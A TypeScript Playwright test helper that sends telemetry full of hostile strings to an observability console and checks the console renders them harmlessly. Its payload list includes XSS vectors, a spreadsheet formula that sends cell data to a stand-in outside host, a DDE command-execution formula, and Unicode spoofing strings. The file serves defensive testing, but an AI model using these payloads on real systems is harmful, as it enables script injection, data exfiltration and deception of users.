/** Telemetry as an enemy would send it, and what the console must not do with it. */
import type { Page } from "playwright-core";

import { expect, inject } from "./browser";
import { attributes, id, send } from "./order";

const RUN = "globalThis.ran=1";

/** By a word for what is tried. */
export const HOSTILE = {
  script: `<script>${RUN}</script>`,
  svg: `"><svg onload=${RUN}>`,
  image: `'><img src=x onerror=${RUN}>`,
  link: `javascript:${RUN}`,
  mail: `<html><base href="https://elsewhere.example/"><style>*{display:none}</style><form action="//elsewhere.example"><input autofocus></form></html>`,
  template: `{{constructor.constructor('${RUN}')()}} \${${RUN}} %3Cscript%3E`,
  formula: `=HYPERLINK("https://elsewhere.example/?"&A1,"x")`,
  command: "=cmd|' /C calc'!A0",
  ansi: "\u001B[2J\u001B[31mred\u001B]0;title\u0007",
  directions: "invoice\u202Efdp.exe",
  unseen: "ad\u200Bmin\uFEFF",
  tags: "a\u{E0062}\u{E0061}d",
  nul: "before\u0000after",
  lines: "first\r\nsecond\u2028third",
  long: "A".repeat(5_000),
} as const;

export type Word = keyof typeof HOSTILE;
export const WORDS = Object.keys(HOSTILE) as Word[];
export const SERVICE = `<b onmouseover=${RUN}>svc</b>`;
/** A service and a metric by which a screen would be read backwards. */
export const TURNED = "pay\u202Esredro";
export const TURNED_SHOWN = "pay⟨U+202E⟩sredro";

export interface Sent {
  traceId: string;
  /** The value of the attribute `marker` of all that was sent. */
  marker: string;
  /** In the order of WORDS. */
  spanIds: string[];
}

const MS = 1_000_000n;
const anyValues = (marker: string, text: string) => [
  ...attributes({
    marker,
    plain: text,
    [text]: text,
    [`value of ${text}`]: text,
  }),
  // 0xFFFEFD00: no letters in any encoding.
  { key: "bytes", value: { bytesValue: "//79AA==" } },
];

/** A trace, log records and a metric whose every text is hostile. Returns once all of it is found. */
export async function sendHostile(): Promise<Sent> {
  const [traceId, marker] = [id(16), `m${id(6)}`];
  const spanIds = WORDS.map(() => id(8));
  const now = BigInt(Date.now() - 10_000) * MS;
  const resource = {
    attributes: attributes({
      "service.name": SERVICE,
      marker,
      [HOSTILE.script]: HOSTILE.svg,
    }),
  };
  const spans = WORDS.map((word, at) => spanOf(word, at, now));
  await send("traces", {
    resourceSpans: [{ resource, scopeSpans: [{ spans }] }],
  });
  await send("traces", { resourceSpans: [turnedSpan(now)] });
  const logRecords = WORDS.map((word, at) => ({
    timeUnixNano: String(now + BigInt(at)),
    severityNumber: 17,
    severityText: HOSTILE[word],
    body: { stringValue: HOSTILE[word] },
    traceId,
    spanId: spanIds[at],
    attributes: anyValues(marker, HOSTILE[word]),
  }));
  await send("logs", {
    resourceLogs: [{ resource, scopeLogs: [{ logRecords }] }],
  });
  await sendMetric(resource, marker, now);
  await found(traceId, WORDS.length, WORDS.length);
  return { traceId, marker, spanIds };

  function spanOf(word: Word, at: number, start: bigint) {
    const text = HOSTILE[word];
    return {
      traceId,
      spanId: spanIds[at],
      parentSpanId: at === 0 ? "" : spanIds[0],
      name: text,
      kind: 2,
      startTimeUnixNano: String(start + BigInt(at) * MS),
      endTimeUnixNano: String(start + 90n * MS),
      status: { code: 2, message: text },
      attributes: anyValues(marker, text),
      events: [
        {
          timeUnixNano: String(start),
          name: text,
          attributes: attributes({
            "exception.type": text,
            "exception.message": text,
            "exception.stacktrace": `${text}\n\tat ${text}`,
          }),
        },
      ],
    };
  }
}

/** Of a service of its own, in a trace of its own. */
function turnedSpan(now: bigint) {
  const span = {
    traceId: id(16),
    spanId: id(8),
    name: TURNED,
    kind: 2,
    startTimeUnixNano: String(now),
    endTimeUnixNano: String(now + MS),
  };
  return {
    resource: { attributes: attributes({ "service.name": TURNED }) },
    scopeSpans: [{ spans: [span] }],
  };
}

/** Called `HOSTILE.svg`, a point for each word; and one called `TURNED`. */
async function sendMetric(resource: object, marker: string, now: bigint) {
  const dataPoints = WORDS.map((word) => ({
    timeUnixNano: String(now),
    asDouble: 1,
    attributes: attributes({ marker, plain: HOSTILE[word] }),
  }));
  const metric = {
    name: HOSTILE.svg,
    description: HOSTILE.image,
    unit: HOSTILE.script,
    gauge: { dataPoints },
  };
  const turned = {
    ...metric,
    name: TURNED,
    description: TURNED,
    unit: TURNED,
    gauge: {
      dataPoints: [
        {
          ...dataPoints[0],
          attributes: attributes({ marker, [TURNED]: TURNED }),
        },
      ],
    },
  };
  const metrics = [metric, turned];
  await send("metrics", {
    resourceMetrics: [{ resource, scopeMetrics: [{ metrics }] }],
  });
}

/** Once the trace has so many spans and log records. */
export async function found(
  traceId: string,
  spans: number,
  logs: number,
): Promise<void> {
  const api = `${inject("platform").url}/api/v1/traces/${traceId}`;
  const counts = async () => {
    const [trace, records] = await Promise.all([
      fetch(api),
      fetch(`${api}/logs`),
    ]);
    if (!trace.ok || !records.ok) return [0, 0];
    const answer = (await records.json()) as { logs: unknown[] };
    return [
      ((await trace.json()) as { spans: number }).spans,
      answer.logs.length,
    ];
  };
  await expect
    .poll(counts, { timeout: 30_000, interval: 200 })
    .toEqual([spans, logs]);
}

/** What must not happen, as it happens: dialogs, windows, requests to others, violations of the page's policy. */
export async function watched(page: Page): Promise<string[]> {
  const happened: string[] = [];
  const own = new URL(inject("platform").url).origin;
  page.on("dialog", (dialog) => {
    happened.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const { origin, protocol } = new URL(request.url());
    if (origin !== own && !["data:", "blob:"].includes(protocol))
      happened.push(`request: ${request.url()}`);
  });
  page.on("popup", (popup) => happened.push(`popup: ${popup.url()}`));
  await page.exposeFunction("violated", (what: string) =>
    happened.push(`policy: ${what}`),
  );
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) =>
      (globalThis as unknown as { violated: (what: string) => void }).violated(
        `${event.effectiveDirective} ${event.blockedURI}`,
      ),
    );
  });
  return happened;
}

const FOREIGN =
  'base ~ base, iframe, object, embed, form[action^="//"], [onerror], [onload], [onmouseover], [href^="javascript:" i]';
// Far beyond what a person would wait; a page that hangs never answers.
const ANSWERS_MS_MAX = 20_000;

/**
 * What is shown, or heard, and holds characters that are not seen or turn the text around. The box of a search has what
 * one writes there, and says below itself that it holds such.
 */
export async function unseen(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    // As `visible` of the console has it; the end of a line and a tab are seen.
    const hidden =
      /(?![\t\n\r])[\p{Cc}\u00AD\u061C\u180E\u200B\u200E\u200F\u2028-\u202E\u2060-\u206F\uFEFF\uFFF9-\uFFFB\u{E0000}-\u{E007F}]/u;
    const written = '[role="search"] [aria-hidden], textarea, script, style';
    const found: string[] = [];
    for (const element of document.body.querySelectorAll("*")) {
      if (element.closest(written) !== null) continue;
      const own = [...element.childNodes].filter(
        (node) => node instanceof Text,
      );
      const texts = [
        ...own.map(({ data }) => data),
        ...["title", "aria-label", "alt"].map((name) =>
          element.getAttribute(name),
        ),
      ];
      for (const text of texts)
        if (text !== null && hidden.test(text))
          found.push(`${element.tagName}: ${text.slice(0, 80)}`);
    }
    return found;
  });
}

/** Nothing ran, no element that is not ours is in the page, all that it says is seen, and it draws and answers. */
export async function isHarmless(page: Page): Promise<void> {
  const drawn = page.evaluate(
    () =>
      new Promise<unknown>((resolve) =>
        requestAnimationFrame(() => resolve(Reflect.get(globalThis, "ran"))),
      ),
  );
  const late = new Promise((resolve) =>
    setTimeout(() => resolve("the page does not answer"), ANSWERS_MS_MAX),
  );
  expect(await Promise.race([drawn, late])).toBe(undefined);
  expect(await page.locator(FOREIGN).count()).toBe(0);
  expect(await unseen(page)).toEqual([]);
  await page.getByRole("heading", { level: 1 }).first().waitFor();
}
